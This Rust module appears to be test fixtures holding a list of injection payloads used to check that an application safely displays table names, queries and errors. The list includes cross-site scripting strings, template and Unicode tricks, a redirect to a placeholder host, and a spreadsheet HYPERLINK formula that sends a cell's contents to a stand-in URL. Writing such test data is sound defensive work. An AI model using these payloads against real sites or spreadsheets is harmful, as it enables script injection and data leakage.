//! What an attacker would write into a table's name, a query or an error.

/// A name and the text. What would run sets `window.__pwned`, which the browser looks at.
const ATTACKS: [(&str, &str); 18] = [
    ("script", "<script>window.__pwned=1</script>"),
    ("end-of-script", "</script><script>window.__pwned=1</script>"),
    ("end-of-json", "\"}]</script><img src=x onerror=\"window.__pwned=1\">"),
    ("image", "<img src=x onerror=window.__pwned=1>"),
    ("frame", "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe><object data=x></object>"),
    ("svg", "<svg/onload=window.__pwned=1><animate onbegin=window.__pwned=1 attributeName=x dur=1s>"),
    ("attribute", "\" autofocus tabindex=0 onfocus=\"window.__pwned=1\" x=\""),
    ("single-quote", "' onmouseover='window.__pwned=1' x='"),
    ("raw-text", "</style></title></textarea></template></noscript><b onclick=window.__pwned=1>"),
    ("comment", "<!--<b>--!><plaintext>"),
    ("style", "</style><style>body{display:none}</style>"),
    ("address", "javascript:window.__pwned=1//https://x"),
    (
        "base",
        "<base href=https://example.invalid/><meta http-equiv=refresh content=\"0;url=https://example.invalid/\">",
    ),
    ("template", "{{ 7 * 7 }}{% raw %}${window.__pwned=1}`+window.__pwned=1+`\\u003cscript>"),
    ("line-separator", "a\u{2028}window.__pwned=1\u{2029}//\u{85}"),
    ("direction", "\u{202e}elbat\u{2066}\u{200f}x\u{200b}y\u{feff}z\0\u{1b}[31m"),
    ("formula", "=HYPERLINK(\"https://example.invalid/?\"&A1,\"x\")"),
    ("quotes", "a\"b'c`d\\e;--/*&amp;&lt;%00%3Cscript%3E\r\n\t,"),
];

/// All attacks, with those that are made by repeating.
pub(crate) fn all() -> Vec<(String, String)> {
    let mut all: Vec<(String, String)> =
        ATTACKS.iter().map(|(name, text)| ((*name).to_owned(), (*text).to_owned())).collect();
    // No place to break a line at, wider than any screen.
    all.push(("unbroken".to_owned(), "W".repeat(3_000)));
    // Letters with marks above and below, as high as lines are.
    all.push(("marks".to_owned(), format!("a{}", "\u{301}\u{323}".repeat(12)).repeat(30)));
    all
}
